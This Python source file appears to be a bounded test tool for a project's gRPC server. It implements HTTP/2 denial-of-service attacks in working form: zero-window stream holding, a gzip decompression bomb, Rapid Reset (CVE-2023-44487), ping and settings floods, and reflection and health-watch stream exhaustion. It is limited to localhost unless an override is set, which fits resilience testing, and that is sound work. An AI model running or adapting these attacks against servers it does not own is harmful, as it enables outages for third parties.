#!/usr/bin/python3
"""h2attack: the HTTP/2 edge attacks of issue 16, against a gRPC endpoint on 127.0.0.1 or another
address you own. Raw sockets (tools/h2raw.py), standard library only. Every attack is bounded in
time and in count, and prints one JSON line: what it sent (frames by type), what came back
(GOAWAYs with their error codes; streams answered by grpc-status, reset by HTTP/2 error code,
still open).

  h2attack.py never-read ADDRESS --token T [--connections 28 --streams 200 --seconds 30]
      connections advertising SETTINGS_INITIAL_WINDOW_SIZE=0 and never sending WINDOW_UPDATE (no
      response can ever be sent), each keeping M GetOrganisation calls open; new connections at
      --connect-rate a second and calls at most --rate a second (under the gateway's 500 calls/s
      rate limit), never more at once on a connection than the server allows:
      `h2load -w 0 -r 2 -c 28 -m 200`.
  h2attack.py gzip-bomb ADDRESS --token T [--count 2 --inflated-mib 1024]
      a message of zeros, gzip-compressed (1 GiB in ~1 MiB), sent with grpc-encoding: gzip, K at once.
  h2attack.py rapid-reset ADDRESS --token T [--seconds 8] [--lag]
      one connection sending HEADERS + DATA + RST_STREAM(CANCEL) per new stream, as fast as it can
      (CVE-2023-44487); a new connection if the server sends GOAWAY. --lag resets each batch of
      streams one write later, once the server has started their calls.
  h2attack.py ping-flood ADDRESS [--frames 100000]
  h2attack.py settings-flood ADDRESS [--frames 100000]
      whether (and after how many frames) the server sends GOAWAY.
  h2attack.py reflection-hang ADDRESS [--streams 16 --bytes 1000000 --seconds 20]
      anonymous ServerReflectionInfo streams, each sending a ~1 MB request (list_services with a big
      host, echoed back in the answer) and never reading.
  h2attack.py health-watch ADDRESS [--connections 4 --streams 2000 --seconds 20]
      anonymous grpc.health.v1.Health/Watch streams that never read.
  (The holding attacks open more connections than --connections if the server allows fewer
  streams on one.)

The holding attacks (reflection-hang, health-watch) write --ready-file (JSON, what they hold so
far) once their streams are established. Every attack stops early on SIGTERM or SIGINT, still
printing its line.
"""
import argparse
import json
import os
import signal
import struct
import sys
import time
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from h2raw import (CANCEL, DATA, END_HEADERS, END_STREAM, FRAME_NAMES, HEADERS, PING, RST_STREAM,  # noqa: E402
                   SETTINGS, SETTINGS_INITIAL_WINDOW_SIZE, SETTINGS_MAX_CONCURRENT_STREAMS, RawConnection,
                   error_name, frame, grpc_code_name, grpc_frame, headers, merge_counts, pb_string, pump_all)

GET_ORGANISATION = "/khartoum.organisations.v1.OrganisationService/GetOrganisation"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
MAX_STREAM_ID = (1 << 31) - 1

stopping = False


def _stop(signum, frame_):
    global stopping
    stopping = True


def get_organisation_request(name="organisations/kenya"):
    return pb_string(1, name)  # GetOrganisationRequest.name


def summary(conns, every_stream=False):
    """Frames sent and received by type, GOAWAYs, stream outcomes, over all `conns`."""
    sent, received, outcomes = {}, {}, {"answered": {}, "reset": {}, "open": 0}
    goaways = []
    for c in conns:
        merge_counts(sent, {FRAME_NAMES[k]: v for k, v in c.frames_sent.items()})
        merge_counts(received, {FRAME_NAMES[k] if k < len(FRAME_NAMES) else str(k): v
                                for k, v in c.frames_received.items()})
        o = c.outcomes(every_stream)
        merge_counts(outcomes["answered"], o["answered"])
        merge_counts(outcomes["reset"], o["reset"])
        outcomes["open"] += o["open"]
        goaways += [{"last_stream": last, "error": error_name(code), "debug": debug[:200]}
                    for last, code, debug in c.goaways]
    return {"frames_sent": sent, "frames_received": received, "goaways": goaways, **outcomes}


def write_ready(path, info):
    if path:
        with open(path + ".tmp", "w") as f:
            json.dump(info, f)
        os.replace(path + ".tmp", path)


def report(**fields):
    print(json.dumps(fields), flush=True)


def open_streams(c):
    return sum(1 for s in c.streams.values() if s.opened and not s.ended)


def wait_for_settings(conns, seconds=2.0):
    """Until every connection has the server's SETTINGS (its windows known), bounded."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and any(not c.frames_received.get(SETTINGS) and not c.closed for c in conns):
        pump_all(conns, 0.05)


# --- never-read -----------------------------------------------------------------------------------

def never_read(a):
    start = time.monotonic()
    deadline = start + a.seconds
    live, draining = [], []
    next_id = {}
    next_connect = start
    allowance, last = float(a.streams), start
    max_calls = int(a.rate * a.seconds) + a.streams
    max_connections = a.connections * 4
    calls = opened = peak_open = 0
    block = headers(GET_ORGANISATION, a.token)
    body = grpc_frame(get_organisation_request())
    while not stopping:
        now = time.monotonic()
        if now >= deadline:
            break
        for c in list(live):  # a connection the server closes or sends GOAWAY on is replaced
            if c.closed or c.goaway or next_id[c] > MAX_STREAM_ID - 2:
                live.remove(c)
                draining.append(c)
        if len(live) < a.connections and opened < max_connections and now >= next_connect:
            try:
                c = RawConnection(a.address, settings={SETTINGS_INITIAL_WINDOW_SIZE: 0}, read=False)
                live.append(c)
                next_id[c] = 1
            except OSError:
                pass
            opened += 1
            next_connect = now + 1.0 / a.connect_rate
        allowance = min(allowance + (now - last) * a.rate, float(a.streams))
        last = now
        started = 0
        for c in live:
            if not c.frames_received.get(SETTINGS):
                continue  # its limits not known yet
            # Like h2load: no more streams at once than the server allows on a connection.
            limit = min(a.streams, c.server_settings.get(SETTINGS_MAX_CONCURRENT_STREAMS, a.streams))
            n = max(min(limit - open_streams(c), int(allowance), max_calls - calls), 0)
            for _ in range(n):
                sid = next_id[c]
                next_id[c] += 2
                c.start(sid, GET_ORGANISATION, block=block)
                c.send(frame(DATA, END_STREAM, sid, body))
            allowance -= n
            calls += n
            started += n
        pump_all(live + draining, 0 if started else 0.01)
        peak_open = max(peak_open, sum(open_streams(c) for c in live + draining))
    all_conns = live + draining
    result = summary(all_conns)
    for c in all_conns:
        c.close()
    report(attack="never-read", seconds=round(time.monotonic() - start, 2), connections_opened=opened,
           calls_started=calls, peak_open_streams=peak_open, **result)


# --- gzip-bomb ------------------------------------------------------------------------------------

def gzip_zeros(mib):
    """`mib` MiB of zeros, gzip-compressed by streaming (the zeros are never all in memory)."""
    z = zlib.compressobj(6, zlib.DEFLATED, 31)
    zeros = bytes(1 << 20)
    parts = [z.compress(zeros) for _ in range(mib)]
    parts.append(z.flush())
    return b"".join(parts)


def gzip_bomb(a):
    t0 = time.monotonic()
    payload = gzip_zeros(a.inflated_mib)
    built = time.monotonic() - t0
    conn = RawConnection(a.address)
    wait_for_settings([conn])
    extra = (("grpc-encoding", "gzip"), ("grpc-accept-encoding", "gzip"))
    body = grpc_frame(payload, compressed=True)
    start = time.monotonic()
    streams = [1 + 2 * k for k in range(a.count)]
    for sid in streams:
        conn.start(sid, GET_ORGANISATION, a.token, extra)
        conn.body(sid, body)
    answered_at = {}
    deadline = start + a.timeout
    while not stopping and time.monotonic() < deadline and not conn.closed:
        progressed = conn.pump_out()
        pump_all([conn], 0 if progressed else 0.05)
        for sid in streams:
            if conn.streams[sid].ended and sid not in answered_at:
                answered_at[sid] = round(time.monotonic() - start, 3)
        if len(answered_at) == len(streams):
            break
    per_stream = []
    for sid in streams:
        s = conn.streams[sid]
        per_stream.append({"stream": sid, "request_bytes_sent": conn.sent.get(sid, 0),
                           "grpc_status": None if s.status is None else grpc_code_name(s.status),
                           "grpc_message": (s.message or "")[:300],
                           "reset": None if s.reset is None else error_name(s.reset),
                           "answered_after_s": answered_at.get(sid)})
    result = summary([conn])
    conn.close()
    report(attack="gzip-bomb", inflated_bytes=a.inflated_mib << 20, compressed_bytes=len(payload),
           build_seconds=round(built, 2), seconds=round(time.monotonic() - start, 2), streams=per_stream, **result)


# --- rapid-reset ----------------------------------------------------------------------------------

def rapid_reset(a):
    start = time.monotonic()
    deadline = start + a.seconds
    block = headers(GET_ORGANISATION, a.token)
    body = grpc_frame(get_organisation_request())
    reset = struct.pack(">I", CANCEL)
    conns, created, refused = [], 0, 0
    conn, sid, unreset = None, 1, range(0)

    def reset_the_rest():
        if conn is not None and unreset and not conn.closed:
            conn.send_frames(b"".join(frame(RST_STREAM, 0, s, reset) for s in unreset), {RST_STREAM: len(unreset)})
    while not stopping and time.monotonic() < deadline and created < a.max_streams:
        if conn is None or conn.closed or conn.goaway or sid > MAX_STREAM_ID - 2 * a.batch:
            if len(conns) >= a.max_connections:
                break
            reset_the_rest()
            try:
                conn, sid, unreset = RawConnection(a.address), 1, range(0)
                conns.append(conn)
                wait_for_settings([conn])
            except OSError:
                # Refused or reset before it could be used (an edge that has banned this
                # address): counted, and tried again shortly, until the deadline.
                refused += 1
                conn = None
                time.sleep(0.01)
                continue
            if conn.closed:
                refused += 1
                time.sleep(0.01)
                continue
        n = min(a.batch, a.max_streams - created)
        if a.lag:  # this batch's calls now, the previous batch's resets with them (calls under way)
            data = b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, body)
                            for s in range(sid, sid + 2 * n, 2))
            data += b"".join(frame(RST_STREAM, 0, s, reset) for s in unreset)
            conn.send_frames(data, {HEADERS: n, DATA: n, RST_STREAM: len(unreset)})
            unreset = range(sid, sid + 2 * n, 2)
        else:
            data = b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, body) +
                            frame(RST_STREAM, 0, s, reset) for s in range(sid, sid + 2 * n, 2))
            conn.send_frames(data, {HEADERS: n, DATA: n, RST_STREAM: n})
        sid += 2 * n
        created += n
        conn.pump_in(0)
        # Only as fast as the server reads: what it has not taken waits here, bounded.
        while len(conn.out) > (256 << 10) and not conn.closed and time.monotonic() < deadline and not stopping:
            conn.pump_in(0.01)
    reset_the_rest()
    elapsed = time.monotonic() - start
    # What the server says after the last stream (a late GOAWAY), briefly.
    linger = time.monotonic() + a.linger
    while conns and time.monotonic() < linger and not all(c.closed for c in conns):
        pump_all(conns, 0.05)
    # Streams are not tracked as they are created (hundreds of thousands): the outcomes are of
    # those the server sent frames on (answered before the reset arrived, or reset by it too).
    result = summary(conns, every_stream=True)
    result.pop("open")
    for c in conns:
        c.close()
    report(attack="rapid-reset", seconds=round(elapsed, 2), streams_created=created, connections=len(conns),
           connections_refused=refused,
           streams_per_second=round(created / max(elapsed, 1e-9)), bytes_sent=sum(c.bytes_sent for c in conns),
           **result)


# --- ping-flood, settings-flood -------------------------------------------------------------------

def flood(a, kind):
    conn = RawConnection(a.address)
    wait_for_settings([conn])
    start = time.monotonic()
    deadline = start + a.seconds
    sent, goaway_after = 0, None
    while not stopping and sent < a.frames and not conn.closed and time.monotonic() < deadline:
        n = min(a.batch, a.frames - sent)
        if kind == PING:
            data = b"".join(frame(PING, 0, 0, struct.pack(">Q", sent + i)) for i in range(n))
        else:  # a valid setting, the same every time
            data = frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 65535)) * n
        conn.send_frames(data, {kind: n})
        sent += n
        conn.pump_in(0)
        while len(conn.out) > (64 << 10) and not conn.closed and time.monotonic() < deadline:
            conn.pump_in(0.01)
        if conn.goaway and goaway_after is None:
            goaway_after = {"frames_sent": sent, "seconds": round(time.monotonic() - start, 3)}
    linger = time.monotonic() + a.linger
    while time.monotonic() < linger and not conn.closed:
        conn.pump_in(0.05)
        if conn.goaway and goaway_after is None:
            goaway_after = {"frames_sent": sent, "seconds": round(time.monotonic() - start, 3)}
    result = summary([conn])
    for key in ("answered", "reset", "open"):
        result.pop(key)
    report(attack="ping-flood" if kind == PING else "settings-flood", flood_frames_sent=sent,
           pings_acked=conn.pings_acked, settings_acked=max(conn.settings_acked - 1, 0),  # not the preface's
           goaway_received=conn.goaway, goaway_after=goaway_after, connection_closed=conn.close_reason or False,
           seconds=round(time.monotonic() - start, 2), **result)
    conn.close()


# --- reflection-hang, health-watch ----------------------------------------------------------------

def hold(a, name, path, message, end_stream):
    """`a.streams` calls of `path` with window 0 (never read), each sending `message`, held for
    `a.seconds`, over `a.connections` connections or more (the server's streams per connection)."""
    start = time.monotonic()
    deadline = start + a.seconds
    first = RawConnection(a.address, settings={SETTINGS_INITIAL_WINDOW_SIZE: 0}, read=False)
    wait_for_settings([first])
    # As many connections as the server's limit of streams per connection requires (at most 256).
    per_conn = min(-(-a.streams // a.connections),
                   first.server_settings.get(SETTINGS_MAX_CONCURRENT_STREAMS, a.streams) or 1)
    count = min(max(a.connections, -(-a.streams // per_conn)), 256)
    conns = [first] + [RawConnection(a.address, settings={SETTINGS_INITIAL_WINDOW_SIZE: 0}, read=False)
                       for _ in range(count - 1)]
    wait_for_settings(conns)
    body = grpc_frame(message)
    started = 0
    for c in conns:
        for k in range(min(per_conn, a.streams - started)):
            c.start(1 + 2 * k, path, a.token)
            c.body(1 + 2 * k, body, end_stream)
            started += 1
    ready, last_activity, last_seen = False, time.monotonic(), None
    while not stopping and time.monotonic() < deadline:
        progressed = any([c.pump_out() for c in conns])
        pump_all(conns, 0 if progressed else 0.05)
        seen = (sum(c.bytes_sent for c in conns), sum(sum(c.frames_received.values()) for c in conns))
        if seen != last_seen:
            last_seen, last_activity = seen, time.monotonic()
        if not ready:
            all_sent = all(c.unsent() == 0 for c in conns)
            all_seen = all(s.ended or s.headers for c in conns for s in c.streams.values() if s.opened)
            quiet = time.monotonic() - last_activity > 1.0
            if (all_sent or quiet) and (all_seen or quiet):
                ready = True
                write_ready(a.ready_file, {"seconds": round(time.monotonic() - start, 2), "all_sent": all_sent,
                                           **summary(conns)})
    result = summary(conns)
    for c in conns:
        c.close()
    report(attack=name, seconds=round(time.monotonic() - start, 2), streams_started=started, connections=len(conns),
           request_bytes_sent=sum(sum(c.sent.values()) for c in conns),
           request_bytes_unsent=sum(c.unsent() for c in conns), **result)


def reflection_hang(a):
    # ServerReflectionRequest{host: ~bytes, list_services: "*"}: the answer echoes the request.
    hold(a, "reflection-hang", REFLECTION, pb_string(1, "h" * max(a.bytes - 8, 0)) + pb_string(7, "*"),
         end_stream=False)


def health_watch(a):
    hold(a, "health-watch", HEALTH_WATCH, b"", end_stream=True)  # HealthCheckRequest{service: ""}


def main(argv=None):
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="attack", required=True)

    def add(name, func, token_required=False):
        s = sub.add_parser(name)
        s.add_argument("address", help="host:port of the gRPC endpoint (plaintext HTTP/2)")
        s.add_argument("--token", required=token_required, help="bearer token (none: anonymous)")
        s.add_argument("--source", help="local address to connect from (e.g. 127.0.0.2: another client "
                                        "address than the test's other callers)")
        s.set_defaults(func=func)
        return s
    s = add("never-read", never_read, True)
    s.add_argument("--connections", type=int, default=28)
    s.add_argument("--streams", type=int, default=200, help="calls kept open per connection")
    s.add_argument("--seconds", type=float, default=30)
    s.add_argument("--connect-rate", type=float, default=2, help="new connections a second")
    s.add_argument("--rate", type=float, default=400, help="calls a second at most, over all connections")
    s = add("gzip-bomb", gzip_bomb, True)
    s.add_argument("--count", type=int, default=2)
    s.add_argument("--inflated-mib", type=int, default=1024)
    s.add_argument("--timeout", type=float, default=60, help="seconds to wait for the answers")
    s = add("rapid-reset", rapid_reset, True)
    s.add_argument("--seconds", type=float, default=8)
    s.add_argument("--max-streams", type=int, default=5_000_000)
    s.add_argument("--max-connections", type=int, default=1000, help="new ones after a GOAWAY, at most")
    s.add_argument("--batch", type=int, default=64, help="streams written at once")
    s.add_argument("--lag", action="store_true",
                   help="reset each batch's streams with the next batch's HEADERS (one write later: the "
                        "server has started the calls) instead of right behind each stream's own frames")
    s.add_argument("--linger", type=float, default=1, help="seconds to read after the last stream")
    for name, kind in (("ping-flood", PING), ("settings-flood", SETTINGS)):
        s = add(name, lambda a, kind=kind: flood(a, kind))
        s.add_argument("--frames", type=int, default=100_000)
        s.add_argument("--seconds", type=float, default=20, help="at most, sending")
        s.add_argument("--batch", type=int, default=256)
        s.add_argument("--linger", type=float, default=2, help="seconds to wait for a GOAWAY after the last frame")
    for name, func, streams, conns in (("reflection-hang", reflection_hang, 16, 1),
                                       ("health-watch", health_watch, 2000, 4)):
        s = add(name, func)
        s.add_argument("--streams", type=int, default=streams, help="in all")
        s.add_argument("--connections", type=int, default=conns)
        s.add_argument("--seconds", type=float, default=20, help="how long the streams are held")
        s.add_argument("--ready-file", help="written (JSON) once the streams are established")
        if name == "reflection-hang":
            s.add_argument("--bytes", type=int, default=1_000_000, help="size of each request")
    a = p.parse_args(argv)
    host = a.address.rsplit(":", 1)[0]
    if host not in ("127.0.0.1", "localhost", "::1", "[::1]") and not os.environ.get("H2ATTACK_ALLOW_REMOTE"):
        p.error("attacks go to 127.0.0.1 only (set H2ATTACK_ALLOW_REMOTE=1 for a host you own)")
    if a.source:
        import h2raw
        h2raw.SOURCE_ADDRESS = a.source
    signal.signal(signal.SIGTERM, _stop)
    signal.signal(signal.SIGINT, _stop)
    a.func(a)


if __name__ == "__main__":
    main()
